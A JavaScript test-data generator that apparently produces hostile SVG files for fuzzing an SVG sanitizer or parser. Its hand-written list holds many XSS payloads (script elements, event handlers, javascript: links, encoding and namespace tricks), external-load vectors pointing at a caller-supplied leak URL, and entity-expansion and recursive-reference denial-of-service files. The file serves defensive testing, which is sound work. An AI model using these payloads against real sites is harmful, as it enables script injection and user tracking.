// SVG files that try to run or load something, to break a parser or to hang a browser: some written
// by hand, some built from random parts, and some from drawing programs with changed bytes. The
// same seed gives the same files.

const svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const run = "top.ran=1;alert(1)";

/** A generator of numbers below `count` (mulberry32). */
function chance(seed) {
  let state = seed >>> 0;
  return (count) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % count;
  };
}

/** Attacks by hand, as latin-1 strings. Those that load something contact `leak`. */
export function attacks(leak) {
  const esc = "\x1B";
  const inside = [
    `<script>${run}</script>`,
    `<script href="${leak}"/>`,
    `<s:script xmlns:s="http://www.w3.org/2000/svg">${run}</s:script>`,
    `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`,
    `<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
    `<g xmlns:svg="urn:x"><svg:g><script>${run}</script></svg:g></g>`,
    `<x:g xmlns:x="urn:x"><script>${run}</script></x:g>`,
    `<img xmlns="http://www.w3.org/1999/xhtml" src="${leak}" onerror="${run}"/>`,
    `<h:style xmlns:h="http://www.w3.org/1999/xhtml">@import "${leak}";</h:style>`,
    `<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${leak}"/>`,
    `<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:${run}"/>`,
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject>`,
    `<metadata><script>${run}</script></metadata>`,
    `<metadata><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="${leak}"/></metadata>`,
    `<style>@im<![CDATA[port "${leak}";]]></style>`,
    `<style>@im<!-- -->port "${leak}";</style>`,
    `<style>*{fill:ur<!-- -->l(${leak})}</style>`,
    `<style>*{fill:ur/**/l(${leak})}</style>`,
    `<style>*{cursor:url(${leak}),auto}</style>`,
    `<style>*{background:image-set("${leak}" 1x)}</style>`,
    `<style>@font-face{font-family:x;src:url(${leak})}text{font-family:x}</style><text>a</text>`,
    `<rect width="9" height="9" style="mask:image-set('${leak}' 1x)"/>`,
    `<rect width="9" height="9" style="fill:u\\72l(${leak})"/>`,
    `<rect width="9" height="9" fill="url(${leak}#a)"/>`,
    `<rect width="9" height="9" clip-path="url('${leak}#a')"/>`,
    `<rect width="9" height="9" filter="url(${leak}#a)"/>`,
    `<rect width="9" height="9" cursor="url(${leak})"/>`,
    `<rect width="9" height="9" style="fill:red" STYLE="fill:url(${leak})"/>`,
    `<use href="${leak}#a"/>`,
    `<use xlink:href="data:image/svg+xml,&lt;svg id='a' xmlns='http://www.w3.org/2000/svg' onload='${run}'/&gt;#a"/>`,
    `<use xmlns:y="http://www.w3.org/1999/xlink" y:href="${leak}#a"/>`,
    `<use xlink:href="#a" href="${leak}#a"/>`,
    `<image href="${leak}" width="9" height="9"/>`,
    `<feImage href="${leak}"/>`,
    `<a href="javascript:${run}"><rect width="99" height="99"/></a>`,
    `<a><animate attributeName="href" to="javascript:${run}" begin="0s"/><rect width="9" height="9"/></a>`,
    `<set attributeName="onclick" to="${run}"/>`,
    `<animate onbegin="${run}" attributeName="x" dur="1s"/>`,
    `<g onload="${run}"/>`,
    `<g onfocusin="${run}" tabindex="0" autofocus="autofocus"/>`,
    `<handler type="text/javascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">${run}</handler>`,
    `<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>`,
    `<g xml:base="${leak}"><use href="#a"/></g>`,
    `<title>&lt;script&gt;${run}&lt;/script&gt;</title>`,
    `<title><![CDATA[</title><script>${run}</script>]]></title>`,
    `<text>]]&gt;&lt;/text&gt;<![CDATA[<script>${run}</script>]]></text>`,
    `<text font-family="&quot;/&gt;&lt;script&gt;${run}&lt;/script&gt;">a</text>`,
    `<text font-family='"&gt;&#10;&#13;&#9;'>a&#13;&#10;b&#xD;</text>`,
    `<desc>&#60;script>${run}&#60;/script></desc>`,
    `<text>&#x202E;&#xFFFF;&#27;</text>`,
    `<text>\x00</text>`,
    `<g id="a"><use href="#a"/></g>`,
    `<g id="a"/><g id="a"><script>${run}</script></g><use href="#a"/>`,
    `<g id="&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;"/>`,
    `<g class="x" style="fill:red;}*{fill:url(${leak})}"/>`,
    `<g transform="translate(1)url(${leak})"/>`,
    `<path d="M0 0url(${leak})"/>`,
    `<?xml-stylesheet href="${leak}" type="text/css"?>`,
    `<?xml-stylesheet href="data:text/xsl,x" type="text/xsl"?>`,
    `<discard href="#a"/>`,
    `<mpath href="${leak}"/>`,
    `<cursor href="${leak}"/>`,
    `<font-face-uri href="${leak}"/>`,
    `<color-profile href="${leak}"/>`,
    `<textPath href="${leak}#a">x</textPath>`,
    `<pattern id="p" href="${leak}#p"/><rect fill="url(#p)" width="9" height="9"/>`,
    `<linearGradient id="l" href="#l"/><rect fill="url(#l)" width="9" height="9"/>`,
    `<mask id="m"><rect mask="url(#m)" width="9" height="9"/></mask><rect mask="url(#m)" width="9" height="9"/>`,
    `<switch><g systemLanguage="en"/><foreignObject/></switch>`,
    nested_uses(10, 10),
    nested_uses(16, 2),
  ];
  const whole = [
    `<?xml version="1.0" encoding="ISO-2022-JP"?><svg ${svg}><title>x${esc}$B<!--${esc}(B</title><script>${run}</script><title>${esc}$B!-->${esc}(B</title></svg>`,
    `<?xml version="1.0" encoding="UTF-7"?><svg ${svg}>+ADw-script+AD4-${run}+ADw-/script+AD4-</svg>`,
    `<?xml version="1.0" encoding="x-user-defined"?><svg ${svg}><title>\xBCscript\xBE</title></svg>`,
    `<?xml version="1.1"?><svg ${svg}><title>\x85&#1;</title></svg>`,
    `<?xml version="1.0"?><?xml version="1.0" encoding="ISO-2022-JP"?><svg ${svg}/>`,
    ` <?xml version="1.0" encoding="utf-16"?><svg ${svg}/>`,
    `\xEF\xBB\xBF<?xml version="1.0" encoding="ISO-2022-JP"?><svg ${svg}/>`,
    `\xFF\xFE${[...`<svg ${svg}><script>${run}</script></svg>`].map((c) => `${c}\0`).join("")}`,
    `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>${run}</script>">]><svg ${svg}>&x;</svg>`,
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]><svg ${svg}/>`,
    `<!DOCTYPE svg SYSTEM "${leak}"><svg ${svg}><rect width="9" height="9"/></svg>`,
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "${leak}"><svg ${svg}><title>&nbsp;&lt;</title></svg>`,
    `<!DOCTYPE svg PUBLIC "]><script>" "${leak}"><svg ${svg}/>`,
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg ${svg}><text>&b;</text></svg>`,
    `<?xml-stylesheet href="${leak}" type="text/xsl"?><svg ${svg}/>`,
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
    `<s:svg xmlns:s="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script><s:rect width="9" height="9"/></s:svg>`,
    `<svg xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></svg>`,
    `<svg ${svg} onload="${run}"/>`,
    `<svg ${svg} xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></svg>`,
    `<svg ${svg}/><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
    `<svg ${svg}><rect width="9" height="9"/></svg><!-- x --><?x y?>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="#a"/></svg>`,
    "",
    "<",
    `<svg ${svg}`,
    `<svg ${svg} width="1e9" height="1e9"/>`,
  ];
  return [
    ...inside.map(
      (text) => `<svg ${svg} width="90" height="90">${text}<rect width="5" height="5"/></svg>`,
    ),
    ...whole,
  ];
}

function nested_uses(levels, width) {
  let text = `<g id="u0"><rect width="9" height="9"/></g>`;
  for (let i = 1; i < levels; ++i)
    text += `<g id="u${i}">${`<use href="#u${i - 1}"/>`.repeat(width)}</g>`;
  return text;
}

const elements = [
  "g",
  "g",
  "defs",
  "symbol",
  "path",
  "rect",
  "circle",
  "line",
  "polygon",
  "text",
  "tspan",
  "title",
  "marker",
  "mask",
  "clipPath",
  "pattern",
  "linearGradient",
  "stop",
  "use",
  "use",
  "svg",
  "switch",
  "a",
  "style",
  "metadata",
];
const harmless = {
  id: ["a", "b", "c", "d.e", "x-1"],
  class: ["k", "k l", "m"],
  fill: ["red", "#abc", "rgb(1,2,3)", "url(#a)", "url( '#b' ) none", "none"],
  stroke: ["url(#c)", "currentColor", "hsl(1,2%,3%)"],
  "clip-path": ["url(#a)", "none"],
  mask: ["url(#b)"],
  "marker-mid": ["url(#a)", "url(#b)"],
  href: ["#a", "#b", "#c"],
  "xlink:href": ["#a", "#d.e", "#x-1"],
  d: ["M0 0L9 9z", "M1,1h8v8z M2 2"],
  points: ["0,0 9,9 3,1"],
  transform: ["scale(2) rotate(3)", "matrix(1 0 0 1 2 3)"],
  width: ["9", "90%", "3em"],
  height: ["9", "7mm"],
  x: ["1", "-2.5e1"],
  "font-family": ["'A B', serif", '"x"'],
  "font-size": ["10px"],
  opacity: [".5"],
  "xml:space": ["preserve"],
  style: [
    "fill:red;stroke:url(#a)",
    "font: bold 9px serif",
    "marker:url(#b)",
    "-inkscape-x:1;line-height:2",
    "display : inline;;",
  ],
  viewBox: ["0 0 9 9"],
  "inkscape:label": ["x"],
  "data-x": ['<&"'],
  "aria-label": ["y"],
};
const between = [
  "text",
  "&amp;&lt;&gt;",
  "<!-- c -->",
  "<![CDATA[<x>]]>",
  "<?pi x?>",
  "&#65;",
  "\n",
  "]]&gt;",
  "<i:x xmlns:i='urn:i'><g/></i:x>",
  "<rdf:RDF xmlns:rdf='urn:r' xmlns:dc='urn:d'><dc:title>t</dc:title></rdf:RDF>",
  "é€😀",
];
const sheets = [
  "*{stroke-linejoin: round}",
  ".k{fill:red} #a,.m{opacity:.5}",
  "/* c */ g { fill : url(#b) }",
  "text{font:9px serif}",
];

/** A drawing made of parts, most of which are harmless; `hostile` returns one that is not. */
function grown(below, hostile) {
  const of = (list) => list[below(list.length)];
  const attributes = () => {
    const names = Object.keys(harmless);
    const chosen = new Set(Array.from({ length: below(5) }, () => of(names)));
    return [...chosen]
      .map((name) => {
        const value = of(harmless[name])
          .replaceAll("&", "&amp;")
          .replaceAll("<", "&lt;")
          .replaceAll('"', "&quot;");
        return ` ${name}="${value}"`;
      })
      .join("");
  };
  let left = 30;
  const node = (depth) => {
    if (--left < 0) return "";
    if (below(4) === 0) return of(between);
    const name = of(elements);
    if (name === "style")
      return `<style>${below(2) ? of(sheets) : `<![CDATA[${of(sheets)}]]>`}</style>`;
    const children =
      depth > 6 ? "" : Array.from({ length: below(4) }, () => node(depth + 1)).join("");
    return `<${name}${attributes()}>${children}${below(60) === 0 ? hostile() : ""}</${name}>`;
  };
  const head = of([
    "",
    "<?xml version='1.0' encoding='utf-8'?>\n",
    "<!DOCTYPE svg>",
    "\u{FEFF}",
    "<!-- x -->",
    "<?x y?>",
  ]);
  const inkscape = ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"';
  return `${head}<svg ${svg}${inkscape} width="90" height="90">${Array.from({ length: 1 + below(6) }, () => node(1)).join("")}</svg>`;
}

/** Bytes changed, moved, doubled and lost. */
function changed(bytes, below) {
  let result = Buffer.from(bytes);
  for (let times = 1 + below(4); times > 0; --times) {
    const at = below(result.length);
    const length = 1 + below(below(3) === 0 ? 200 : 4);
    const part = result.subarray(at, at + length);
    const to = below(result.length);
    const kinds = [
      () => Buffer.concat([result.subarray(0, at), result.subarray(at + length)]),
      () => Buffer.concat([result.subarray(0, to), part, result.subarray(to)]),
      () => Buffer.concat([result.subarray(0, at), Buffer.from([below(256)]), result.subarray(at)]),
      () => {
        const copy = Buffer.from(result);
        copy[at] = below(2)
          ? copy[at] ^ (1 << below(8))
          : Buffer.from("<>&\"'/:;(){}#*.! ")[below(17)];
        return copy;
      },
    ];
    result = kinds[below(kinds.length)]();
    if (result.length === 0) return result;
  }
  return result;
}

/** `count` files, as buffers. `samples` are files of drawing programs. */
export function* hostile_pictures({ seed, count, leak, samples }) {
  const below = chance(seed);
  const by_hand = attacks(leak).map((text) => Buffer.from(text, "latin1"));
  const hostile = () => {
    const text = by_hand[below(by_hand.length)].toString("latin1");
    return /<svg[^>]*>([^]*)<\/svg>/.exec(text)?.[1] ?? "";
  };
  yield* by_hand.slice(0, count);
  for (let i = by_hand.length; i < count; ++i) {
    const kind = below(10);
    if (kind < 6) yield Buffer.from(grown(below, hostile));
    else if (kind < 7) yield changed(Buffer.from(grown(below, hostile)), below);
    else if (kind < 9) yield changed(samples[below(samples.length)], below);
    else yield changed(by_hand[below(by_hand.length)], below);
  }
}
